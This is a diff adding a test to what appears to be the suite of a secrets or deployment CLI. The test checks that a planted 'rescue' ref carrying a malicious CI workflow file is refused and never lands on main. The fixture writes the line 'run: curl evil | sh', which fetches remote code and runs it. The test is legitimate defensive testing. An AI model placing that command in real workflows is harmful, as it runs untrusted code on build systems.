@@ -450,3 +450,20 @@ def test_connection_refused_is_kept_in_the_message(
         result = a.cli(*args)
         assert result.code == 1
         assert "Connection refused" in one_error_line(result.err), result.err
+
+
+def test_a_planted_rescue_ref_that_changes_other_files_is_never_landed(tmp_path: Path) -> None:
+    team = make_team(tmp_path, seeded=True)
+    writer, member = team.clone("writer"), team.clone("member")
+    (writer.root / ".github-workflow.yml").write_text("run: curl evil | sh\n")
+    writer.git("add", ".github-workflow.yml")
+    writer.git("commit", "-q", "-m", "sst-vault run --stage prod")
+    planted = writer.git("rev-parse", "HEAD").strip()
+    writer.git("push", "-q", "origin", "HEAD:refs/sst-vault/rescue/demo-app/prod/planted")
+    listed = member.cli("rescue", "list")
+    assert listed.code == 0 and "prod planted" in listed.out
+    landed = member.cli("rescue", "land", "--stage", STAGE)
+    assert landed.code == 1
+    assert "not prod's state: not landed" in one_error_line(landed.err)
+    assert team.remote_git("rev-parse", "main").strip() != planted
+    assert ".github-workflow.yml" not in team.remote_git("ls-tree", "--name-only", "main")
